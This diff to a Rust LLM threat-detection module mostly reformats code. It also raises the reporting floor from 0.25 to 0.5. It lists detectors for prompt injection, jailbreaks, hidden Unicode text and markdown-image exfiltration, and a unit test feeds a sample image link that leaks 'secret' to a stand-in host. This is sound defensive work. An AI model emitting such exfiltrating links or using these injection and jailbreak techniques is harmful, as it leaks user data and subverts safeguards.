@@ -10,7 +10,7 @@ use crate::output::Allowlist;
 use crate::{Classifier, Evidence, canary, hidden, output};
 
 /// Scores below this are not reported at all: a policy threshold lower than it acts as it.
-pub const REPORT_FLOOR: f32 = 0.25;
+pub const REPORT_FLOOR: f32 = 0.5;
 
 /// Where third-party content came from: each source has its own detector id
 /// (`indirect_<source>`), so policy can treat each differently.
@@ -41,23 +41,91 @@ impl Source {
 /// Every LLM threat detector: id, class and what it finds (for `rampart detectors` and policy
 /// validation).
 pub const DETECTORS: &[(&str, DataClass, &str)] = &[
-    ("prompt_injection", DataClass::PromptInjection, "instructions that override or subvert the system prompt, in user messages"),
-    ("jailbreak", DataClass::PromptInjection, "persona, role-play and policy-evasion jailbreaks in user messages"),
-    ("indirect_tool", DataClass::PromptInjection, "instructions to the model inside tool and function results"),
-    ("indirect_document", DataClass::PromptInjection, "instructions to the model inside retrieved or attached documents"),
-    ("indirect_file", DataClass::PromptInjection, "instructions to the model inside file contents"),
-    ("indirect_web", DataClass::PromptInjection, "instructions to the model inside fetched web content"),
-    ("poisoned_content", DataClass::PromptInjection, "injection payloads in content sent to embedding, fine-tuning, file and batch endpoints"),
-    ("canary", DataClass::SystemPromptLeak, "the exchange's canary token in a response"),
-    ("system_prompt_echo", DataClass::SystemPromptLeak, "a response reproducing the system prompt's text"),
-    ("unicode_tags", DataClass::HiddenText, "invisible Unicode tag characters (they can spell ASCII)"),
-    ("zero_width", DataClass::HiddenText, "zero-width spaces, joiners and word joiners inside text"),
-    ("bidi_control", DataClass::HiddenText, "bidirectional embeddings, overrides and isolates"),
-    ("variation_selectors", DataClass::HiddenText, "runs of variation selectors (can carry bytes)"),
-    ("homoglyph", DataClass::HiddenText, "Cyrillic and Greek look-alike letters inside Latin words"),
-    ("markdown_image_exfil", DataClass::UnsafeOutput, "images whose URL carries data or leaves the allowlist"),
-    ("html_script", DataClass::UnsafeOutput, "script tags, javascript: URLs, event handlers, iframes"),
-    ("link_unlisted", DataClass::UnsafeOutput, "links to hosts outside the allowlist"),
+    (
+        "prompt_injection",
+        DataClass::PromptInjection,
+        "instructions that override or subvert the system prompt, in user messages",
+    ),
+    (
+        "jailbreak",
+        DataClass::PromptInjection,
+        "persona, role-play and policy-evasion jailbreaks in user messages",
+    ),
+    (
+        "indirect_tool",
+        DataClass::PromptInjection,
+        "instructions to the model inside tool and function results",
+    ),
+    (
+        "indirect_document",
+        DataClass::PromptInjection,
+        "instructions to the model inside retrieved or attached documents",
+    ),
+    (
+        "indirect_file",
+        DataClass::PromptInjection,
+        "instructions to the model inside file contents",
+    ),
+    (
+        "indirect_web",
+        DataClass::PromptInjection,
+        "instructions to the model inside fetched web content",
+    ),
+    (
+        "poisoned_content",
+        DataClass::PromptInjection,
+        "injection payloads in content sent to embedding, fine-tuning, file and batch endpoints",
+    ),
+    (
+        "canary",
+        DataClass::SystemPromptLeak,
+        "the exchange's canary token in a response",
+    ),
+    (
+        "system_prompt_echo",
+        DataClass::SystemPromptLeak,
+        "a response reproducing the system prompt's text",
+    ),
+    (
+        "unicode_tags",
+        DataClass::HiddenText,
+        "invisible Unicode tag characters (they can spell ASCII)",
+    ),
+    (
+        "zero_width",
+        DataClass::HiddenText,
+        "zero-width spaces, joiners and word joiners inside text",
+    ),
+    (
+        "bidi_control",
+        DataClass::HiddenText,
+        "bidirectional embeddings, overrides and isolates",
+    ),
+    (
+        "variation_selectors",
+        DataClass::HiddenText,
+        "runs of variation selectors (can carry bytes)",
+    ),
+    (
+        "homoglyph",
+        DataClass::HiddenText,
+        "Cyrillic and Greek look-alike letters inside Latin words",
+    ),
+    (
+        "markdown_image_exfil",
+        DataClass::UnsafeOutput,
+        "images whose URL carries data or leaves the allowlist",
+    ),
+    (
+        "html_script",
+        DataClass::UnsafeOutput,
+        "script tags, javascript: URLs, event handlers, iframes",
+    ),
+    (
+        "link_unlisted",
+        DataClass::UnsafeOutput,
+        "links to hosts outside the allowlist",
+    ),
 ];
 
 const POISONING: &[OwaspId] = &[OwaspId::LLM04_2025, OwaspId::LLM01_2025];
@@ -107,7 +175,10 @@ fn finding(
     score: f32,
     severity: Severity,
 ) -> Finding {
-    let value = text.as_bytes().get(span.start..span.end).unwrap_or_default();
+    let value = text
+        .as_bytes()
+        .get(span.start..span.end)
+        .unwrap_or_default();
     Finding {
         class,
         detector,
@@ -333,7 +404,14 @@ mod tests {
         )
         .unwrap();
         assert_eq!(j.finding.detector, "jailbreak");
-        assert!(user_message("What is the boiling point of water at sea level?", 0, &key()).is_none());
+        assert!(
+            user_message(
+                "What is the boiling point of water at sea level?",
+                0,
+                &key()
+            )
+            .is_none()
+        );
     }
 
     #[test]
@@ -357,7 +435,12 @@ mod tests {
         assert_eq!(&reply[l.finding.span.start..l.finding.span.end], tok);
         let h = hidden_text("pass\u{200B}word", 0, &key());
         assert_eq!(h[0].finding.detector, "zero_width");
-        let o = unsafe_output("![x](https://e.example/?q=secret)", &Allowlist::default(), 0, &key());
+        let o = unsafe_output(
+            "![x](https://e.example/?q=secret)",
+            &Allowlist::default(),
+            0,
+            &key(),
+        );
         assert_eq!(o[0].finding.detector, "markdown_image_exfil");
         assert_eq!(o[0].finding.owasp, &[OwaspId::LLM05_2025]);
     }
